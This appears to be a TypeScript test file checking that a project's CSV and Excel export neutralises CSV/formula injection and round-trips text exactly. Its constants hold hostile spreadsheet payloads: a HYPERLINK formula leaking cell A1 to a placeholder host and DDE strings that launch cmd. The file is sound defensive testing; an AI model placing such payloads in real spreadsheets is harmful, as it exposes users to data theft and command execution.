import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { exportHarvest } from '../../server/src/node/harvest-export';
import { importWorkbookFile } from '../../server/src/node/harvest-import';
import { looksLikeFormula } from '../../server/src/workbook/formula-guard';
import { temporaryFolder } from '../temporary-folders';
import { readExample, service } from './helpers';

/** The texts of issue 24: what Excel and LibreOffice would run as formulas (OWASP's CSV injection). */
const DESCRIPTION = '=HYPERLINK("http://example.invalid/?"&A1,"Click")';
const SOCIAL_ACTOR = "+cmd|'/C calc'!A0";
/** With its leading blank, which the fragment keeps and the cell too. */
const CONTRIBUTION = " @SUM(1+9)*cmd|' /C notepad'!A1";
const ADDITIONAL = "'=1+1 (a text that itself starts with ')";
const COST = '-3+A1';

/** The example with those texts in its fields (its merged story left out), and two keys of its own: a negative number and a formula-like text. */
function hostileFragment(): string {
  const lines = readExample()
    .replace(/^\*\*Outcome description\*\*: .*$/m, `**Outcome description**: ${DESCRIPTION}`)
    .replace(/^\*\*Social actor\*\*: .*$/m, `**Social actor**: ${SOCIAL_ACTOR}`)
    .replace(/^\*\*Contribution of the programme\*\*: .*$/m, `**Contribution of the programme**: ${CONTRIBUTION}`)
    .replace(/^\*\*Additional information \(use if needed\) \*\*: .*$/m, `**Additional information (use if needed) **: ${ADDITIONAL}`)
    .replace(/^\*\*StoryFragment_Merged\*\*: .*\n/m, '')
    // Before the two lists, which an import writes last.
    .replace(/^\*\*MCQType of change\*\*/m, `**Balance**: -3\n**Cost**: ${COST}\n**MCQType of change**`);
  return lines;
}

/** Every cell a real CSV reader (csv-parse, without our guard's undoing) finds in a file we wrote. */
function outsideCsvCells(path: string): string[] {
  const text = readFileSync(path, 'utf8').replace(/^\uFEFF/, '');
  return (parse(text, { relax_column_count: true }) as string[][]).flat();
}

const isNumber = (cell: string) => cell !== '' && String(Number(cell)) === cell;

describe('nothing exported runs as a formula (FORMAT.md §6)', () => {
  const folder = temporaryFolder('fragments-formulas-');
  const harvest = join(folder, 'harvest');
  mkdirSync(harvest);
  writeFileSync(join(harvest, 'row_1.txt'), hostileFragment());
  const options = { service, includeConfidential: true, includeUnanonymised: true } as const;

  it('no CSV we write, master or causal-map, holds a cell a spreadsheet would run; a negative number stays a number', async () => {
    await exportHarvest([harvest], join(folder, 'master.csv'), { ...options, layout: 'master' });
    await exportHarvest([harvest], join(folder, 'map.csv'), { ...options, layout: 'causal-map' });
    const written = readdirSync(folder).filter((name) => name.endsWith('.csv'));
    assert.deepEqual(written.sort(), ['map.questions.csv', 'map.sources.csv', 'map.statements.csv', 'master.csv']);
    for (const name of written) {
      for (const cell of outsideCsvCells(join(folder, name))) {
        assert.ok(!looksLikeFormula(cell) || isNumber(cell), `${name}: ${JSON.stringify(cell)}`);
      }
    }
    const master = outsideCsvCells(join(folder, 'master.csv'));
    for (const text of [DESCRIPTION, SOCIAL_ACTOR, CONTRIBUTION, ADDITIONAL, COST]) assert.ok(master.includes(`'${text}`), text);
    assert.ok(master.includes('-3'), 'the number -3 is written as it is');
    const statements = outsideCsvCells(join(folder, 'map.statements.csv'));
    // The merged story's parts are trimmed.
    assert.ok(statements.includes(`'${DESCRIPTION}`) && statements.includes(`'${CONTRIBUTION.trim()}`), 'the statements are guarded');
    assert.ok(outsideCsvCells(join(folder, 'map.sources.csv')).includes(`'${SOCIAL_ACTOR}`), 'the sources are guarded');
  });

  it('importing the master CSV gives back the exact texts, the same files as importing the .xlsx', async () => {
    await exportHarvest([harvest], join(folder, 'master.csv'), { ...options, layout: 'master' });
    await exportHarvest([harvest], join(folder, 'master.xlsx'), { ...options, layout: 'master' });
    await importWorkbookFile(join(folder, 'master.csv'), join(folder, 'from-csv'), { service });
    await importWorkbookFile(join(folder, 'master.xlsx'), join(folder, 'from-xlsx'), { service });
    const fromCsv = readFileSync(join(folder, 'from-csv', 'row_1.txt'), 'utf8');
    assert.equal(fromCsv, hostileFragment(), 'the fragment file comes back byte for byte');
    assert.equal(readFileSync(join(folder, 'from-xlsx', 'row_1.txt'), 'utf8'), fromCsv);
    for (const line of [
      `**Outcome description**: ${DESCRIPTION}`,
      `**Social actor**: ${SOCIAL_ACTOR}`,
      `**Contribution of the programme**: ${CONTRIBUTION}`,
      `**Additional information (use if needed) **: ${ADDITIONAL}`,
      '**Balance**: -3',
      `**Cost**: ${COST}`,
    ])
      assert.ok(fromCsv.split('\n').includes(line), line);
    // Export, import, export: the same CSV again.
    await exportHarvest([join(folder, 'from-csv')], join(folder, 'again.csv'), { ...options, layout: 'master' });
    assert.equal(readFileSync(join(folder, 'again.csv'), 'utf8'), readFileSync(join(folder, 'master.csv'), 'utf8'));
  });

  it('no .xlsx we write holds a formula: every text is a string cell, whatever it starts with', async () => {
    for (const layout of ['master', 'causal-map'] as const) {
      const output = join(folder, `${layout}.xlsx`);
      await exportHarvest([harvest], output, { ...options, layout });
      const zip = await JSZip.loadAsync(readFileSync(output));
      const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/[^/]+\.xml$/.test(name));
      assert.ok(sheets.length >= 1);
      for (const name of sheets) {
        const xml = await zip.file(name)?.async('string');
        assert.doesNotMatch(xml ?? '', /<f[\s>]/, `${layout} ${name} holds no formula`);
      }
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(readFileSync(output) as never);
      const texts: string[] = [];
      for (const sheet of workbook.worksheets)
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${layout} ${sheet.name}!${cell.address}`);
            if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
          }),
        );
      assert.ok(texts.includes(DESCRIPTION), `${layout}: the description is a string cell, as written`);
    }
  });
});
